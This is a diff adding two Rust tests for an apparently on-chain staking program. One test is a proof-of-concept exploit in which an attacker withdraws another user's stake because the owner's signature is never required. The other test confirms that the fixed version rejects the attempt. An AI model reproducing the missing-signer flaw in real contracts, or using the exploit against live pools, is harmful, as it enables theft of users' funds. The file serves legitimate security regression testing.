@@ -0,0 +1,51 @@
+#[tokio::test]
+async fn test_unstake_without_owner_signature_exploit() {
+    println!("\n=== EXPLOIT: Unstake Someone Else's Position ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let pool = create_stake_pool().await;
+
+    println!("1. Alice stakes 50,000 tokens");
+    stake(&pool, &alice, 50_000).await.unwrap();
+
+    println!("\n2. Mallory unstakes, passing Alice's pubkey as staker");
+    let mallory_token = create_token_account(&mallory.pubkey()).await;
+    // Vulnerable: staker only compared by key, never required to sign
+    unstake_as(&pool, &alice.pubkey(), &mallory_token, &mallory, 50_000)
+        .await
+        .unwrap();
+
+    assert_eq!(get_token_balance(&mallory_token).await, 50_000);
+    assert_eq!(get_stake(&pool, &alice.pubkey()).await.amount, 0);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Alice's stake paid to Mallory without Alice signing");
+}
+
+#[tokio::test]
+async fn test_unstake_requires_owner_signature() {
+    println!("\n=== SECURITY: Stake Owner Must Sign Unstake ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let pool = create_stake_pool().await;
+    stake(&pool, &alice, 50_000).await.unwrap();
+
+    println!("1. Mallory passes Alice's pubkey without her signature");
+    let mallory_token = create_token_account(&mallory.pubkey()).await;
+    let result = unstake_as(&pool, &alice.pubkey(), &mallory_token, &mallory, 50_000).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: missing required signature");
+
+    println!("\n2. Mallory signs as herself against Alice's stake");
+    let result = unstake_with_stake(&pool, &stake_pda(&alice.pubkey()), &mallory, &mallory_token, 50_000).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: ConstraintSeeds");
+
+    println!("\n3. Alice unstakes to her own account");
+    let alice_token = create_token_account(&alice.pubkey()).await;
+    unstake(&pool, &alice, &alice_token, 50_000).await.unwrap();
+    assert_eq!(get_token_balance(&alice_token).await, 50_000);
+    println!("   ✓ 50,000 tokens returned to Alice");
+}